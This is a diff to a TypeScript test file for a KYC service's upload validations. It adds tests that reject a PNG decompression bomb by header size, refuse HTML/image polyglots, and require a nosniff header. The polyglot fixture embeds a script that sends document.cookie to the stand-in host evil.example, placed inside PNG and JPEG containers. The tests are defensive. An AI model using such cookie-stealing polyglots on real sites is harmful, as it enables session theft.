@@ -1,7 +1,7 @@
 import { db, eventually } from '@kyc/testing';
 
 import { created, email, finished, s, useValidationsSuite } from './validations-fixture';
-import { expectError, jpegLike, otpFromMail, upload, waitFinished } from './validations-helpers';
+import { expectError, ihdr, jpegLike, otpFromMail, pngOf, upload, waitFinished } from './validations-helpers';
 
 describe('validations: e-mail and phone OTP, media, delete and restore', () => {
   useValidationsSuite();
@@ -238,6 +238,39 @@ describe('validations: e-mail and phone OTP, media, delete and restore', () => {
       expect(started.rows[0].media_complete_at).not.toBeNull();
     });
 
+    it('measures an image from its header before decoding: 40 MP at 16 bits in a small PNG is 400 image_too_large', async () => {
+      const { front_url: front, reverse_url: reverse } = (await createDoc()).body.instructions;
+      // Its pixel data is not even valid: only the header can have refused it, nothing decoded it.
+      const bomb = pngOf([ihdr(8000, 5000, 16), ['IDAT', Buffer.alloc(300, 1)], ['IEND', Buffer.alloc(0)]]);
+      const res = await upload(front, bomb);
+      expectError(res, 400, 'image_too_large');
+      expect(res.body.message).toMatch(/8000x5000 at 16 bits .* the limit is 16 megapixels/);
+      // 17 MP at 8 bits is over too; 4 MP at 16 bits (8 counted) is within and takes the slot.
+      expectError(await upload(front, pngOf([ihdr(4250, 4000, 8), ['IEND', Buffer.alloc(0)]])), 400, 'image_too_large');
+      expect((await upload(reverse, pngOf([ihdr(2000, 2000, 16), ['IEND', Buffer.alloc(0)]]))).status).toBe(200);
+    });
+
+    it('refuses an image that is not only what its magic bytes claim (HTML polyglots), 415', async () => {
+      const { front_url: front } = (await createDoc()).body.instructions;
+      const html = Buffer.from('<html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>');
+      const png = pngOf([ihdr(1, 1, 8), ['IEND', Buffer.alloc(0)]]);
+      for (const polyglot of [
+        Buffer.concat([png, html]), // after IEND
+        pngOf([ihdr(1, 1, 8), ['tEXt', Buffer.concat([Buffer.from('c\0'), html])], ['IEND', Buffer.alloc(0)]]),
+        Buffer.concat([
+          jpegLike(64).subarray(0, -2),
+          Buffer.from([0xff, 0xfe, 0, html.length + 2]),
+          html,
+          Buffer.from([0xff, 0xd9]),
+        ]),
+      ]) {
+        const res = await upload(front, polyglot);
+        expectError(res, 415, 'unsupported_media_type');
+        expect(res.body.message).toMatch(/markup|after its end/);
+      }
+      expect((await upload(front, png)).status).toBe(200);
+    });
+
     it('show_details adds the inputs and media links valid 15 minutes; delete hides them, restore brings them back', async () => {
       const res = await createDoc();
       const id = res.body.validation_id;
@@ -261,6 +294,7 @@ describe('validations: e-mail and phone OTP, media, delete and restore', () => {
       const file = await fetch(media.url);
       expect(file.status).toBe(200);
       expect(file.headers.get('content-type')).toBe('image/jpeg');
+      expect(file.headers.get('x-content-type-options')).toBe('nosniff');
       expect(Buffer.from(await file.arrayBuffer()).equals(image)).toBe(true);
       expect((await fetch(media.url.replace(/signature=[\w-]+/, 'signature=x'))).status).toBe(403);
       // the account-scoped read answers the same
